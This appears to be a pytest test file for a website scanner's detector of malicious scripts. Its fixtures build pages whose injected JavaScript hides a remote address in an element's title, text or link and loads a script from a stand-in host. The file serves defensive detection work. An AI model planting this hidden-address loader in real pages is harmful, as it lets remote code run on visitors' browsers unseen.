"""An address that an element keeps is put into the code that asks that element."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest

from scanner import rules
from scanner.detectors._kept import kept
from scanner.model import SiteEntry, Snapshot
from scanner.page import Page

RULES = rules.load("malicious_scripts")
HOME = "http://www.example.gov.cn/"
LOADS = "var e=document.createElement('script');e.src={};document.body.appendChild(e)"


def found(element: str, value: str) -> list[str]:
    body = f"<html><body>{element}<script>{LOADS.format(value)}</script></body></html>"
    shot = Snapshot(url=HOME, final_url=HOME, fetched_at=datetime.now(UTC), body=body.encode())
    return [each.rule for each in kept(Page(shot, SiteEntry(home=HOME)), RULES)]


@pytest.mark.parametrize(
    ("element", "value"),
    [
        ("<p id=k title=//q.k8.example/a.js>x</p>", "document.getElementById('k').title"),
        ("<p class=k>//q.k8.example/a.js</p>", "document.querySelector('.k').textContent"),
        ("<p id=k title='//q.k8.example'>x</p>", "document.getElementById('k').getAttribute('title')+'/a.js'"),
        ("<a id=k href=//q.k8.example/a.js>x</a>", "document.querySelector('#k').href"),
    ],
)
def test_it_is_found(element, value):
    assert "malicious_scripts/kept-address" in found(element, value)


@pytest.mark.parametrize(
    ("element", "value"),
    [
        ("<p id=k title=/js/a.js>x</p>", "document.getElementById('k').title"),
        ("<p id=k data-src=//q.k8.example/a.js>x</p>", "document.getElementById('k').dataset.src"),
        ("<p id=k title=//q.k8.example/a.js>x</p>", "document.getElementById('other').title"),
        ("<p id=k title=//q.k8.example/a.js>x</p>", "document.querySelector(':::').title"),
    ],
)
def test_what_is_declared_or_not_asked_is_none(element, value):
    assert not found(element, value)
